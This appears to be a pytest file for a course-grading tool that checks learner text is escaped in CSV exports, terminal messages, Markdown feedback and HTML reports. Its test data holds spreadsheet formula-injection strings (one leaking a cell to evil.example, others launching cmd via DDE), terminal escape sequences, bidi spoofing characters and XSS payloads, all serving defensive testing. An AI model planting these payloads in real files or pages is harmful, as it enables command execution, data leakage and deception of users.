"""Learner text reaches every output escaped for where it is read (issue 24, item 5; intake, item 4).

A bank of payload variants per attack class, each sent through every output that can
carry it: spreadsheet formulas (grades.csv, roster.csv, the manual score sheets, the
LMS exports), terminal escape sequences and bidirectional overrides (the intake's
messages, the summary, the CSV files), Markdown and HTML in the feedback (rendered with
markdown-it, as a browser would show it) and in report.html; keys that begin with a
letter or a digit; plain-zip names that differ only in case; members that cannot be
read (too long, undecodable) refused one by one; a download inside the output folder
never deleted.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import zipfile
from pathlib import Path

import fixtures
import pytest
from fixtures import STEM, _nb, _zip
from markdown_it import MarkdownIt

from coursetools.grade import batch
from coursetools.grade.grading.submission import Submission
from coursetools.grade.lms import intake
from coursetools.grade.lms.archive import safe_extract
from coursetools.grade.lms.base import slug
from coursetools.grade.outputs import progress
from coursetools.grade.outputs.publish import publish
from coursetools.grade.outputs.scores import compute
from coursetools.grade.records import escape

ROOT = Path(__file__).resolve().parents[3]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-1-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
]
TERMINAL = [
    "\x1b[2J\x1b[H",  # clear the screen
    "\x1b[1A\x1b[2K0 problems, all graded",  # overwrite the line above
    "\x1b]0;owned\x07",  # set the window title
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",  # a hyperlink
    "\r0 problems, all graded",
    "\x9b2J",  # C1 control sequence introducer
    "\x08\x08\x08ok",
    "a\x00b",
]
BIDI = [
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\u200fright",
    "\u061c",
    "\ufeffbom",
    "zero\u200bwidth",
    "\u202a\u202c",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "<a href='http://evil.example'>x</a>",
    "```\n# injected heading\n```",
    "`` ` ``",
    "**bold** _it_ [ref]: http://evil.example",
    "<details open>x",
]
PAYLOADS = FORMULAS + TERMINAL + BIDI + MARKUP
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")


def _unsafe_chars(text: str) -> list[str]:
    return UNSAFE.findall(text.replace("\n", "").replace("\t", ""))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


# --------------------------------------------------------------------------- the escapes alone


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_is_never_a_formula_and_shows_every_character(payload):
    cell = escape.csv_cell(payload)
    assert not cell.startswith(escape.FORMULA_START), repr(cell)
    assert not _unsafe_chars(cell), repr(cell)
    assert escape.csv_cell("1.5") == "1.5" and escape.csv_cell(0.25) == "0.25"  # scores stay numbers


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_terminal_line_holds_no_control_or_bidi_character(payload):
    line = escape.terminal(payload)
    assert not _unsafe_chars(line) and "\n" not in line, repr(line)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_code_spans_and_blocks_render_the_text_literally(payload):
    md = MarkdownIt("commonmark")
    for rendered in (md.render(f"- got: {escape.md_code(payload)}"), md.render(escape.md_block(payload))):
        assert "<script" not in rendered and "<img" not in rendered and "<a " not in rendered, rendered
        assert "<h1" not in rendered and "<details" not in rendered and "<strong>" not in rendered, rendered
        assert not _unsafe_chars(rendered), repr(rendered)


# --------------------------------------------------------------------------- through every output


def _hostile_record(student: str, payload: str) -> dict:
    record = fixtures.record(student, {"ex-00-1": 0.5}, {"ex-00-1": 1.0})
    record["exercises"]["ex-00-1"]["cases"][0]["message"] = f"got {payload}"
    record["exercises"]["ex-00-1"]["cases"][0]["status"] = "failed"
    record["cell_errors"] = [{"cell": 3, "etype": "ValueError", "text": payload, "line": 1}]
    record["incidents"] = [f"cell 3: last output: {payload}"]
    record["review"] = [f"the answer printed {payload}"]
    return record


@pytest.mark.slow
def test_every_output_escapes_learner_text(tmp_path, capsys):
    # learner names from a Moodle download (folder names are the learners' own), learner
    # text in the records (exception text, output, returned values)
    members = {}
    for i, payload in enumerate(PAYLOADS):
        name = payload.replace("/", " ").replace("\x00", " ")
        members[f"{name}_{1000 + i}_assignsubmission_file_/{STEM}.ipynb"] = _nb()
    out = tmp_path / "out"
    staged = intake.prepare(_zip(tmp_path / "m.zip", members), out, STEM, quiet=False)
    messages = capsys.readouterr().err
    assert not _unsafe_chars(messages)
    keys = sorted(p.name.removesuffix(".ipynb") for p in staged.iterdir() if not p.name.startswith("."))
    assert len(keys) == len(PAYLOADS)
    assert all(escape.key_ok(k) for k in keys), keys
    records = [_hostile_record(k, PAYLOADS[i % len(PAYLOADS)]) for i, k in enumerate(keys)]
    fixtures.write_graded(out, records, assignment=STEM)
    (out / "overrides.csv").write_text(
        "student,exercise,points,reason\n" + "".join(f"{k},ex-00-1,1,ok\n" for k in keys[:3])
    )
    publish(out)
    for name in ("grades.csv", "roster.csv"):
        for cell in _cells((out / name).read_text(encoding="utf-8")):
            assert not cell.startswith(escape.FORMULA_START), (name, cell)
            assert not _unsafe_chars(cell), (name, cell)
    md = MarkdownIt("commonmark")
    for path in (out / "feedback").glob("*.md"):
        html = md.render(path.read_text(encoding="utf-8"))
        for tag in ("<script", "<img", "<a ", "<details", "<h1>injected"):
            assert tag not in html, (path.name, tag)
        assert not _unsafe_chars(html), path.name
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page and "<img src=x" not in page and not _unsafe_chars(page)
    results = [json.loads(p.read_text()) for p in out.glob("*/results.json")]
    assert results and not any(_unsafe_chars(json.dumps(r, ensure_ascii=False)) for r in results)
    summary = progress.summary(compute(out), "none", 1.0)
    assert not _unsafe_chars(summary)
    from coursetools.grade.lms import export

    exported = 0
    for lms in export.LMS:
        try:
            written, _ = fixtures.exported(lms, out)
        except export.WrongLMS:  # the class came from the other LMS's download: nothing written
            assert not (out / "export" / lms).exists()
            continue
        exported += 1
        for cell in _cells(written[0].read_text(encoding="utf-8")):
            assert not cell.startswith(escape.FORMULA_START) and not _unsafe_chars(cell), (lms, cell)
            # nor any field a ';'-separated spreadsheet would make of it
            assert not any(part.lstrip(" ").startswith(escape.FORMULA_START) for part in cell.split(";"))
    assert exported == 1


# --------------------------------------------------------------------------- keys and names


@pytest.mark.parametrize("name", ["-1-1", "=cmd", "@x", "+1", "_a", ".hidden-not", "--help", "ü-only"])
def test_a_key_always_begins_with_a_letter_or_digit(tmp_path, name):
    result = intake.collect(
        _zip(tmp_path / "p.zip", {f"{name}.ipynb": _nb(), "ok.ipynb": _nb()}), tmp_path / "s", STEM
    )
    keys = [e.student for e in result.entries]
    assert all(escape.key_ok(k) for k in keys), keys
    subs = [Submission(name, tmp_path / f"{name}.ipynb"), Submission("s-1-1", tmp_path / "x.ipynb")]
    batch.safe_keys(subs)
    assert all(escape.key_ok(s.student) for s in subs) and len({s.student for s in subs}) == 2


@pytest.mark.parametrize(
    "names",
    [
        ("Ada.ipynb", "ada.ipynb"),
        ("ADA.ipynb", "Ada.ipynb", "ada.ipynb"),
        ("a b.ipynb", "a_b.ipynb"),
        ("Ada/", "ada/"),
    ],
)
def test_plain_zip_names_that_differ_in_case_are_two_learners(tmp_path, names):
    members = {}
    for n in names:
        members[(n + f"ps/{STEM}.ipynb") if n.endswith("/") else n] = _nb()
    members["zed.ipynb"] = _nb()  # a second top entry, so the zip is not read as one folder
    result = intake.collect(_zip(tmp_path / "p.zip", members), tmp_path / "s", STEM)
    keys = [e.student for e in result.entries]
    assert len(keys) == len(names) + 1 and len(set(keys)) == len(keys), keys
    assert not result.duplicates
    again = intake.collect(_zip(tmp_path / "p.zip", members), tmp_path / "s", STEM)
    assert [e.student for e in again.entries] == keys  # a key depends on its own name only


@pytest.mark.parametrize(
    "accented,key",
    [
        ("Jörg Müller-Lüdenscheidt", "jorg-muller-ludenscheidt"),
        ("Zoë Ørsted", "zoe-orsted"),
        ("Łukasz Straße", "lukasz-strasse"),
        ("Ærøskøbing Ðan", "aeroskobing-dan"),
        ("李雷", "student"),
    ],
)
def test_keys_transliterate_names(accented, key):
    assert slug(accented) == key


# --------------------------------------------------------------------------- one bad member, never the class


def test_a_member_with_a_name_too_long_is_staged_alone_under_its_key(tmp_path):
    """Issue 43.6: a name part longer than 255 bytes no longer costs its learner the row (it was
    refused): each member is staged under its computed key, read by its long name, and the
    members beside it are staged as they would be anyway."""
    members = {
        "x" * 300 + f"_1_2_{STEM}.ipynb": _nb(),
        f"Ada_12345_assignsubmission_file_/{'y' * 260}.ipynb": _nb(),
        f"lovelaceada_12345_67890_{STEM}.ipynb": _nb(),
    }
    result = intake.collect(_zip(tmp_path / "long.zip", members), tmp_path / "out" / "submissions", STEM)
    assert not any(e.refused for e in result.entries)
    assert not any("refused" in p or "unreadable" in p for p in result.problems), result.problems
    rows = {e.student: e for e in result.entries}
    long_key = next(k for k in rows if k.startswith("x"))
    # the Canvas member with a 300-byte learner name: its id, a key the file system can hold
    assert rows[long_key].student_id == "1" and len(long_key.encode()) <= 255 - len(".ipynb")
    assert rows["lovelaceada-12345"].student_id == "12345"
    # the Moodle-shaped folder in a Canvas download is what it is with a short name: not a
    # learner of this Canvas download (no LMS id), staged by its folder's name
    short = {k.replace("y" * 260, "y" * 10): v for k, v in members.items()}
    beside = intake.collect(_zip(tmp_path / "short.zip", short), tmp_path / "s2", STEM)
    folder_rows = [(e.student, e.student_id) for e in result.entries if e.lms == "folder"]
    assert folder_rows == [(e.student, e.student_id) for e in beside.entries if e.lms == "folder"]
    assert [row[1] for row in folder_rows] == [""]
    # every learner's notebook staged whole, under a name of at most 255 bytes
    staged = sorted(p for p in result.folder.iterdir() if not p.name.startswith("."))
    assert len(staged) == 3 and all(len(p.name.encode()) <= 255 for p in staged), staged
    assert all(p.read_bytes() == _nb() for p in staged)


def test_undecodable_and_control_names_on_disk_are_staged_and_reported_escaped(tmp_path, capsys):
    folder = tmp_path / "download"
    folder.mkdir()
    names = [
        b"J\xf6rg M\xfcller_34567_assignsubmission_file_",  # Latin-1 bytes: not UTF-8
        b"\x1b[2JEve_45678_assignsubmission_file_",
        b"Ada Lovelace_12345_assignsubmission_file_",
    ]
    for raw in names:
        os.mkdir(os.path.join(os.fsencode(folder), raw))
        with open(os.path.join(os.fsencode(folder), raw, f"{STEM}.ipynb".encode()), "wb") as fh:
            fh.write(_nb())
    out = tmp_path / "out"
    staged = intake.prepare(folder, out, STEM, quiet=False)
    assert not _unsafe_chars(capsys.readouterr().err)
    keys = sorted(p.name for p in staged.iterdir() if not p.name.startswith("."))
    assert keys == ["2jeve-45678.ipynb", "ada-lovelace-12345.ipynb", "j-rg-m-ller-34567.ipynb"]
    roster = (out / "roster.csv").read_text(encoding="utf-8")  # written: no UnicodeEncodeError
    assert "\\udcf6" in roster and "\\x1b[2JEve" in roster


@pytest.mark.parametrize("layout", ["folder", "zip"])
def test_a_download_placed_at_out_submissions_is_never_deleted(tmp_path, layout):
    out = tmp_path / "out"
    download = out / "submissions"
    download.mkdir(parents=True)
    members = {f"lovelaceada_12345_67890_{STEM}.ipynb": _nb(), f"turingalan_34567_11111_{STEM}.ipynb": _nb()}
    if layout == "folder":
        for name, data in members.items():
            (download / name).write_bytes(data)
        source = download
    else:
        source = _zip(download / "canvas.zip", members)
    before = {p.name: p.read_bytes() for p in download.iterdir()}
    for _ in range(2):  # and again: the second staging reuses the intake's own folder
        staged = intake.prepare(source, out, STEM, quiet=True)
        assert staged != download and download not in staged.parents
        assert {p.name: p.read_bytes() for p in download.iterdir()} == before
        assert sorted(p.name for p in staged.iterdir() if not p.name.startswith(".")) == [
            "lovelaceada-12345.ipynb",
            "turingalan-34567.ipynb",
        ]
    # a folder of the instructor's (not made by the intake) beside it is not emptied either
    mine = out / "submissions-staged"
    assert (mine / intake.STAGED_MARK).is_file()


def test_a_stray_file_is_listed_not_graded(tmp_path):
    members = {"class/ada.ipynb": _nb(), "class/notes.txt": b"x", "class/bob.ipynb": _nb()}
    result = intake.collect(_zip(tmp_path / "z.zip", members), tmp_path / "s", STEM)
    assert [e.student for e in result.entries] == ["ada", "bob"]
    assert result.strays == ["notes.txt"] and any("notes.txt" in p for p in result.problems)
    subs = [
        Submission("notes.txt", tmp_path / "plain" / "notes.txt"),
        Submission("ada", tmp_path / "plain" / "ada.ipynb"),
    ]
    (tmp_path / "plain").mkdir()
    for s in subs:
        s.path.write_text("{}")
    kept, strays = batch.split_strays(subs, tmp_path / "plain")
    assert [s.student for s in kept] == ["ada"] and strays == ["notes.txt"]
    # a learner's own upload that is not a notebook stays a learner (reported by its name)
    canvas = {"knuthdonald_45678_33333_answers.pdf": b"%PDF", f"lovelaceada_12345_67890_{STEM}.ipynb": _nb()}
    result = intake.collect(_zip(tmp_path / "c.zip", canvas), tmp_path / "c", STEM)
    assert not result.strays and [e.student for e in result.entries] == [
        "knuthdonald-45678",
        "lovelaceada-12345",
    ]
    subs = [Submission(p.name, p) for p in sorted(result.folder.iterdir()) if not p.name.startswith(".")]
    kept, strays = batch.split_strays(subs, result.folder)
    assert len(kept) == 2 and strays == []


def test_a_zip_member_with_an_impossible_date_is_still_extracted(tmp_path):
    path = tmp_path / "d.zip"
    with zipfile.ZipFile(path, "w") as zf:
        info = zipfile.ZipInfo(f"ada_1_2_{STEM}.ipynb", date_time=(1980, 1, 1, 0, 0, 0))
        zf.writestr(info, _nb())
    raw = bytearray(path.read_bytes())
    problems = safe_extract(path, tmp_path / "x")
    assert problems == [] and (tmp_path / "x" / f"ada_1_2_{STEM}.ipynb").is_file() and raw
